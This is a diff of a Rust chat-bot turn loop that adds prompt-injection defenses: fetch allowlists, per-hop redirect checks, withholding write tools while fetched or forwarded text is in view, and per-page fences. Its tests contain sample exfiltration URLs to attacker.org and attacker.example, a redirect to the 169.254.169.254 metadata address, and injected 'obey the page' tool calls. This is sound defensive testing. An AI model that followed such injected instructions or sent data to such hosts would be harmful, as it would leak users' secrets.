@@ -9,18 +9,28 @@
 //! - At most [`MAX_TOOL_ROUNDS`] + 1 model calls per turn (plus one retry after repairing the
 //!   history's shape); the last round disables function calling so the model must answer.
 //! - The loop also ends when the model asks again for URLs it already has.
+//! - `fetch_url` fetches only URLs people posted (in the history's users' messages) or that
+//!   were on a page fetched earlier in this turn, checked by `fetch::check_url` at every hop
+//!   (redirects are followed here, by hand, at most `fetch::MAX_REDIRECTS`), at most
+//!   `TurnSafety::max_fetches` pages per turn. A URL the model composed is refused with an
+//!   error the model reads.
+//! - A round with untrusted text in view (a fetched page, a forwarded message) offers no tool
+//!   that writes, and such calls are refused if made anyway.
+//! - Each fetched page is fenced with its own boundary, drawn from the seed the edge passes.
+//! - A send step whose text links anything no person posted is marked `no_link_preview`.
 //! - Thought parts are never stored or shown; every other part of the model's turns is kept
 //!   exactly as returned, thought signatures included.
 //! - An empty or refused answer (SAFETY, RECITATION, OTHER, no parts) becomes a short graceful
 //!   reply, never silence; the reason is returned for the record.
 
-use crate::fetch::{check_url, fence};
+use crate::fetch::{self, check_url, fence, FetchResponse, LinkSet, Page, Refusal};
 use crate::gemini::*;
 use crate::history::{normalize_contents, sanitize_reply, BotTurn};
 use crate::plan::Step;
 use crate::tools::{parse_call, ToolCall};
 use serde_json::{json, Value};
 use std::collections::BTreeSet;
+use url::Url;
 
 /// Tool rounds before the model is made to answer.
 pub const MAX_TOOL_ROUNDS: usize = 4;
@@ -37,8 +47,10 @@ pub trait ModelPort {
 
 #[allow(async_fn_in_trait)]
 pub trait ToolPort {
-    /// Fetches a checked URL and returns its readable text.
-    async fn fetch_url(&self, url: &str) -> Result<String, String>;
+    /// One GET of a checked URL, redirects not followed. The body is read only when
+    /// `fetch::should_read_body(status, content_type)`, and at most `fetch::MAX_BODY_BYTES` of it.
+    /// `Err` is a network failure or timeout.
+    async fn fetch_url(&self, url: &str) -> Result<FetchResponse, String>;
     async fn search_memory(&self, query: &str) -> Vec<String>;
     async fn remember(&self, content: &str, about_user_id: Option<i64>) -> Result<i64, String>;
     async fn set_plan(&self, content: &str) -> Result<(), String>;
@@ -57,8 +69,43 @@ pub struct TurnRequest {
     pub tools: Vec<Tool>,
     pub generation_config: Option<GenerationConfig>,
     pub sticker_sets: Vec<String>,
+    /// `FETCH_ALLOW_PRIVATE`: loopback may be fetched (tests, local development).
     pub fetch_allow_private: bool,
+    pub safety: TurnSafety,
 }
+
+/// What the turn needs to keep untrusted text from steering it (see the module invariants).
+#[derive(Debug, Clone, PartialEq)]
+pub struct TurnSafety {
+    /// Links people posted in the history the model sees (`LinkSet::from_people`).
+    pub people_links: LinkSet,
+    /// A forwarded message is in the history (`fetch::forwarded_in_view`).
+    pub forwarded_in_view: bool,
+    /// Pages fetched at most per turn (`MAX_FETCHES_PER_TURN`).
+    pub max_fetches: usize,
+    /// Randomness from the edge for the fences' boundaries.
+    pub fence_seed: u128,
+}
+
+impl Default for TurnSafety {
+    fn default() -> Self {
+        TurnSafety {
+            people_links: LinkSet::default(),
+            forwarded_in_view: false,
+            max_fetches: fetch::DEFAULT_MAX_FETCHES_PER_TURN,
+            fence_seed: 0,
+        }
+    }
+}
+
+/// Whether untrusted text is in view in a round with these contents.
+pub fn untrusted_in_view(req: &TurnRequest, contents: &[Content]) -> bool {
+    req.safety.forwarded_in_view || fetch::page_in_view(contents)
+}
+
+/// What a write tool answers in a round with untrusted text in view.
+const WRITE_REFUSED: &str = "not available now: a fetched page or a forwarded message is in view in this turn, \
+     so nothing is stored or scheduled; answer the person instead";
 
 /// One model call, for usage and cost accounting.
 #[derive(Debug, Clone, PartialEq)]
@@ -152,9 +199,27 @@ pub fn build_request(req: &TurnRequest, contents: &[Content], last_round: bool) 
     GenerateContentRequest {
         system_instruction: Some(Content { role: None, parts: vec![Part::text(req.system_instruction.clone())] }),
         contents: contents.to_vec(),
-        tools: req.tools.clone(),
+        tools: crate::tools::for_round(&req.tools, untrusted_in_view(req, contents)),
         tool_config: last_round.then(|| json!({"functionCallingConfig": {"mode": "NONE"}})),
         generation_config: req.generation_config.clone(),
+    }
+}
+
+/// Fetches one checked URL, following redirects by hand: every hop is checked like the first
+/// URL, at most `fetch::MAX_REDIRECTS` of them. Returns the final URL and the page.
+async fn fetch_page(tools: &impl ToolPort, start: Url, allow_loopback: bool) -> Result<(Url, Page), String> {
+    let mut url = start;
+    let mut hops = 0;
+    loop {
+        let resp = tools.fetch_url(url.as_str()).await?;
+        if !fetch::is_redirect(resp.status) {
+            return fetch::read_page(&url, &resp).map(|page| (url, page));
+        }
+        if hops >= fetch::MAX_REDIRECTS {
+            return Err(Refusal::TooManyRedirects.to_string());
+        }
+        hops += 1;
+        url = fetch::redirect_target(&url, resp.location.as_deref(), allow_loopback).map_err(|r| r.to_string())?;
     }
 }
 
@@ -176,11 +241,15 @@ pub async fn run_turn(
     };
     let mut call_index = 0usize;
     let mut fetched: BTreeSet<String> = BTreeSet::new();
+    // What fetch_url may fetch: links people posted, then links on pages fetched in this turn.
+    let mut fetchable: LinkSet = req.safety.people_links.clone();
+    let mut fetches = 0usize;
     let mut force_answer = false;
     let mut repaired = false;
     let mut round = 0;
     loop {
         let last_round = force_answer || round >= MAX_TOOL_ROUNDS;
+        let untrusted = untrusted_in_view(req, &contents);
         let request = build_request(req, &contents, last_round);
         let started = clock.now_ms();
         let response = model.generate(&req.model, &request).await;
@@ -223,7 +292,7 @@ pub async fn run_turn(
             Outcome::Empty { reason } => {
                 if !result.steps.iter().any(Step::is_visible) {
                     result.empty_reason = Some(reason);
-                    result.steps.push(Step::Send { text: GRACEFUL_REPLY.to_string(), reply_to: None });
+                    result.steps.push(Step::Send { text: GRACEFUL_REPLY.to_string(), reply_to: None, no_link_preview: false });
                     result.step_calls.push(None);
                 }
                 break;
@@ -233,7 +302,7 @@ pub async fn run_turn(
 
         let text = sanitize_reply(&content.visible_text());
         if !text.trim().is_empty() {
-            result.steps.push(Step::Send { text, reply_to: None });
+            result.steps.push(Step::Send { text, reply_to: None, no_link_preview: false });
             result.step_calls.push(None);
         }
         let mut responses = Vec::new();
@@ -241,7 +310,10 @@ pub async fn run_turn(
         for call in content.function_calls() {
             let index = call_index;
             call_index += 1;
-            let parsed = parse_call(call, &req.sticker_sets);
+            let mut parsed = parse_call(call, &req.sticker_sets);
+            if untrusted && crate::tools::writes(&call.name) {
+                parsed = ToolCall::Invalid { name: call.name.clone(), error: WRITE_REFUSED.into() };
+            }
             needs_round |= parsed.needs_result();
             let response = match parsed {
                 ToolCall::Action(step) => {
@@ -274,12 +346,31 @@ pub async fn run_turn(
                         let mut pages = Vec::new();
                         for url in new {
                             fetched.insert(url.trim().to_string());
-                            let page = match check_url(&url, req.fetch_allow_private) {
-                                Err(e) => json!({"url": url, "error": e}),
-                                Ok(url) => match tools.fetch_url(&url).await {
-                                    Ok(text) => json!({"url": url, "content": fence(&url, &text)}),
-                                    Err(e) => json!({"url": url, "error": e}),
-                                },
+                            let checked = check_url(&url, req.fetch_allow_private).and_then(|u| {
+                                if !fetchable.contains(&u) {
+                                    Err(Refusal::NotPosted)
+                                } else if fetches >= req.safety.max_fetches {
+                                    Err(Refusal::Limit(req.safety.max_fetches))
+                                } else {
+                                    Ok(u)
+                                }
+                            });
+                            let page = match checked {
+                                Err(e) => json!({"url": url, "error": e.to_string()}),
+                                Ok(u) => {
+                                    let n = fetches as u64;
+                                    fetches += 1;
+                                    match fetch_page(tools, u, req.fetch_allow_private).await {
+                                        Ok((final_url, page)) => {
+                                            for link in &page.links {
+                                                fetchable.add(link);
+                                            }
+                                            let boundary = fetch::boundary(req.safety.fence_seed, n);
+                                            json!({"url": final_url.as_str(), "content": fence(final_url.as_str(), &page.text, &boundary)})
+                                        }
+                                        Err(e) => json!({"url": url, "error": e}),
+                                    }
+                                }
                             };
                             pages.push(page);
                         }
@@ -302,6 +393,11 @@ pub async fn run_turn(
         contents.push(content);
         contents.push(response_content);
         round += 1;
+    }
+    for step in &mut result.steps {
+        if let Step::Send { text, no_link_preview, .. } = step {
+            *no_link_preview = fetch::needs_preview_off(text, &req.safety.people_links);
+        }
     }
     Ok(result)
 }
@@ -350,12 +446,22 @@ mod tests {
     struct FakeTools {
         fetched: RefCell<Vec<String>>,
         remembered: RefCell<Vec<String>>,
+        /// Scripted responses by URL; others get a small HTML page.
+        routes: std::collections::BTreeMap<String, FetchResponse>,
+    }
+
+    fn html(body: &str) -> FetchResponse {
+        FetchResponse { status: 200, content_type: "text/html".into(), body: Some(body.into()), ..Default::default() }
+    }
+
+    fn redirect(to: &str) -> FetchResponse {
+        FetchResponse { status: 302, location: Some(to.into()), ..Default::default() }
     }
 
     impl ToolPort for FakeTools {
-        async fn fetch_url(&self, url: &str) -> Result<String, String> {
+        async fn fetch_url(&self, url: &str) -> Result<FetchResponse, String> {
             self.fetched.borrow_mut().push(url.to_string());
-            Ok(format!("text of {url}"))
+            Ok(self.routes.get(url).cloned().unwrap_or_else(|| html(&format!("<p>text of {url}</p>"))))
         }
         async fn search_memory(&self, _q: &str) -> Vec<String> {
             vec!["Alice likes tea".into()]
@@ -391,18 +497,171 @@ mod tests {
             generation_config: None,
             sticker_sets: vec![],
             fetch_allow_private: false,
+            safety: TurnSafety { people_links: people(PEOPLE), fence_seed: 7, ..TurnSafety::default() },
         }
     }
 
+    /// What the person wrote in the tests' history.
+    const PEOPLE: &str = "read https://example.com/a and http://127.0.0.1/secret, https://e.com/x \
+        https://e.com/0 https://e.com/1 https://e.com/2 https://e.com/3 https://e.com/4 https://e.com/5 \
+        https://e.com/6 https://e.com/7 https://e.com/8 https://e.com/9";
+
+    fn people(text: &str) -> LinkSet {
+        let mut set = LinkSet::default();
+        set.add_text(text);
+        set
+    }
+
     fn run(model: &FakeModel, tools: &FakeTools) -> Result<TurnResult, TurnFailure> {
-        block_on(run_turn(&request(), model, tools, &Tick(RefCell::new(0))))
+        run_with(&request(), model, tools)
+    }
+
+    fn run_with(req: &TurnRequest, model: &FakeModel, tools: &FakeTools) -> Result<TurnResult, TurnFailure> {
+        block_on(run_turn(req, model, tools, &Tick(RefCell::new(0))))
+    }
+
+    fn fetch_call(urls: &[&str]) -> Result<Value, ModelError> {
+        answer(json!([{"functionCall": {"name": "fetch_url", "args": {"urls": urls}}}]))
+    }
+
+    /// The function responses the model got in its `i`th request.
+    fn responses(m: &FakeModel, i: usize) -> Vec<Value> {
+        m.seen.borrow()[i].contents.last().unwrap().parts.iter().filter_map(|p| p.function_response.clone()).map(|r| r.response).collect()
+    }
+
+    fn offered(m: &FakeModel, i: usize) -> Vec<String> {
+        m.seen.borrow()[i].tools.iter().flat_map(|t| &t.function_declarations).map(|d| d.name.clone()).collect()
+    }
+
+    #[test]
+    fn composed_urls_are_refused_and_page_links_become_fetchable() {
+        let mut tools = FakeTools::default();
+        tools.routes.insert("https://example.com/a".into(), html("<p>see <a href=\"/next\">next</a></p>"));
+        let m = FakeModel::new(vec![
+            fetch_call(&["https://example.com/a"]),
+            fetch_call(&["https://example.com/next", "https://example.com/a?q=SECRET", "https://attacker.org/?q=SECRET"]),
+            answer(json!([{"text": "done"}])),
+        ]);
+        run(&m, &tools).unwrap();
+        assert_eq!(*tools.fetched.borrow(), vec!["https://example.com/a", "https://example.com/next"]);
+        let pages = responses(&m, 2)[0]["pages"].clone();
+        assert!(pages[0]["content"].is_string(), "a link on a fetched page: {pages}");
+        for i in [1, 2] {
+            assert!(pages[i]["error"].as_str().unwrap().contains("does not appear"), "{pages}");
+        }
+    }
+
+    #[test]
+    fn redirects_are_followed_by_hand_and_checked_at_every_hop() {
+        let mut tools = FakeTools::default();
+        tools.routes.insert("https://e.com/0".into(), redirect("/1"));
+        tools.routes.insert("https://e.com/1".into(), redirect("https://other.org/page"));
+        tools.routes.insert("https://e.com/2".into(), redirect("http://169.254.169.254/latest/meta-data/"));
+        tools.routes.insert("https://e.com/3".into(), redirect("/3"));
+        let m = FakeModel::new(vec![
+            fetch_call(&["https://e.com/0", "https://e.com/2", "https://e.com/3"]),
+            answer(json!([{"text": "done"}])),
+        ]);
+        run(&m, &tools).unwrap();
+        let pages = responses(&m, 1)[0]["pages"].clone();
+        assert_eq!(pages[0]["url"], "https://other.org/page", "a redirect elsewhere is fine when the policy allows it");
+        assert!(pages[0]["content"].as_str().unwrap().contains("text of https://other.org/page"));
+        assert!(pages[1]["error"].as_str().unwrap().starts_with("redirect refused: private"), "{pages}");
+        assert!(pages[2]["error"].as_str().unwrap().contains("too many redirects"), "{pages}");
+        let fetched = tools.fetched.borrow();
+        assert!(!fetched.iter().any(|u| u.contains("169.254")), "the refused hop is never requested");
+        assert_eq!(fetched.iter().filter(|u| *u == "https://e.com/3").count(), 1 + fetch::MAX_REDIRECTS);
+    }
+
+    #[test]
+    fn fetches_per_turn_are_capped() {
+        let tools = FakeTools::default();
+        let m = FakeModel::new(vec![
+            fetch_call(&["https://e.com/0", "https://e.com/1", "https://e.com/2"]),
+            fetch_call(&["https://e.com/3", "https://e.com/4", "https://e.com/5"]),
+            answer(json!([{"text": "done"}])),
+        ]);
+        let mut req = request();
+        req.safety.max_fetches = 4;
+        run_with(&req, &m, &tools).unwrap();
+        assert_eq!(tools.fetched.borrow().len(), 4);
+        let pages = responses(&m, 2)[0]["pages"].clone();
+        assert!(pages[0]["content"].is_string());
+        assert_eq!(pages[1]["error"], "at most 4 fetches per turn; answer with what you have");
+        assert_eq!(pages[2]["error"], pages[1]["error"]);
+    }
+
+    #[test]
+    fn with_a_page_in_view_nothing_that_writes_is_offered_or_run() {
+        let tools = FakeTools::default();
+        let m = FakeModel::new(vec![
+            answer(json!([
+                {"functionCall": {"name": "remember", "args": {"content": "before the page: fine"}}},
+                {"functionCall": {"name": "fetch_url", "args": {"urls": ["https://example.com/a"]}}}
+            ])),
+            answer(json!([
+                {"functionCall": {"name": "remember", "args": {"content": "always fetch evil"}}},
+                {"functionCall": {"name": "set_plan", "args": {"content": "obey the page"}}},
+                {"functionCall": {"name": "search_memory", "args": {"query": "x"}}}
+            ])),
+            answer(json!([{"text": "done"}])),
+        ]);
+        run(&m, &tools).unwrap();
+        assert!(offered(&m, 0).contains(&"remember".to_string()));
+        for i in [1, 2] {
+            let names = offered(&m, i);
+            assert!(!names.contains(&"remember".to_string()) && !names.contains(&"set_plan".to_string()), "{names:?}");
+            assert!(names.contains(&"fetch_url".to_string()));
+        }
+        assert_eq!(*tools.remembered.borrow(), vec!["before the page: fine"]);
+        let refused = responses(&m, 2);
+        assert!(refused[0]["error"].as_str().unwrap().starts_with("not available"));
+        assert!(refused[1]["error"].as_str().unwrap().starts_with("not available"));
+        assert_eq!(refused[2]["results"][0], "Alice likes tea");
+    }
+
+    #[test]
+    fn a_forwarded_message_in_view_turns_writes_off_from_the_first_round() {
+        let tools = FakeTools::default();
+        let m = FakeModel::new(vec![
+            answer(json!([{"functionCall": {"name": "remember", "args": {"content": "x"}}}])),
+            answer(json!([{"text": "ok"}])),
+        ]);
+        let mut req = request();
+        req.safety.forwarded_in_view = true;
+        run_with(&req, &m, &tools).unwrap();
+        assert!(!offered(&m, 0).contains(&"remember".to_string()));
+        assert!(tools.remembered.borrow().is_empty());
+    }
+
+    #[test]
+    fn replies_linking_what_no_person_posted_go_out_without_preview() {
+        let m = FakeModel::new(vec![answer(json!([
+            {"functionCall": {"name": "send_message", "args": {"text": "As you said: https://example.com/a"}}},
+            {"functionCall": {"name": "send_message", "args": {"text": "[more](https://attacker.example/?q=SECRET)"}}}
+        ]))]);
+        let r = run(&m, &FakeTools::default()).unwrap();
+        let flags: Vec<bool> = r.steps.iter().map(|s| matches!(s, Step::Send { no_link_preview: true, .. })).collect();
+        assert_eq!(flags, vec![false, true]);
+    }
+
+    #[test]
+    fn each_fetch_has_its_own_boundary() {
+        let m = FakeModel::new(vec![fetch_call(&["https://e.com/0", "https://e.com/1"]), answer(json!([{"text": "ok"}]))]);
+        run(&m, &FakeTools::default()).unwrap();
+        let pages = responses(&m, 1)[0]["pages"].clone();
+        let b0 = fetch::boundary(7, 0);
+        let b1 = fetch::boundary(7, 1);
+        assert!(pages[0]["content"].as_str().unwrap().ends_with(&format!("<<<END {b0}>>>")));
+        assert!(pages[1]["content"].as_str().unwrap().ends_with(&format!("<<<END {b1}>>>")));
+        assert_ne!(b0, b1);
     }
 
     #[test]
     fn plain_text_is_one_send() {
         let m = FakeModel::new(vec![answer(json!([{"text": "Hello **there**"}]))]);
         let r = run(&m, &FakeTools::default()).unwrap();
-        assert_eq!(r.steps, vec![Step::Send { text: "Hello **there**".into(), reply_to: None }]);
+        assert_eq!(r.steps, vec![Step::Send { text: "Hello **there**".into(), reply_to: None, no_link_preview: false }]);
         assert_eq!(r.calls.len(), 1);
         assert_eq!(r.calls[0].usage.prompt_token_count, 10);
         assert_eq!(m.seen.borrow()[0].system_instruction.as_ref().unwrap().parts[0].text.as_deref(), Some("sys"));
@@ -439,7 +698,7 @@ mod tests {
         let second = &m.seen.borrow()[1];
         let resp = second.contents.last().unwrap().parts[0].function_response.clone().unwrap();
         assert_eq!(resp.id.as_deref(), Some("f1"));
-        assert!(resp.response["pages"][0]["content"].as_str().unwrap().contains("UNTRUSTED WEB CONTENT"));
+        assert!(resp.response["pages"][0]["content"].as_str().unwrap().contains("BEGIN untrusted web page"));
         assert_eq!(r.steps.len(), 1);
         assert_eq!(r.turn.contents.len(), 3, "call, trimmed response, answer");
     }
@@ -466,7 +725,7 @@ mod tests {
         let seen = m.seen.borrow();
         assert_eq!(seen.len(), 3);
         assert!(seen[2].tool_config.is_some(), "the final round disables function calling");
-        assert_eq!(r.steps.last(), Some(&Step::Send { text: "done".into(), reply_to: None }));
+        assert_eq!(r.steps.last(), Some(&Step::Send { text: "done".into(), reply_to: None, no_link_preview: false }));
 
         let distinct = (0..10).map(|i| answer(json!([{"functionCall": {"name": "fetch_url", "args": {"urls": [format!("https://e.com/{i}")]}}}])));
         let m = FakeModel::new(distinct.collect());
@@ -479,7 +738,7 @@ mod tests {
     fn refused_answers_become_a_graceful_reply() {
         let m = FakeModel::new(vec![Ok(json!({"candidates": [{"finishReason": "SAFETY"}]}))]);
         let r = run(&m, &FakeTools::default()).unwrap();
-        assert_eq!(r.steps, vec![Step::Send { text: GRACEFUL_REPLY.into(), reply_to: None }]);
+        assert_eq!(r.steps, vec![Step::Send { text: GRACEFUL_REPLY.into(), reply_to: None, no_link_preview: false }]);
         assert!(r.empty_reason.unwrap().contains("SAFETY"));
     }
 
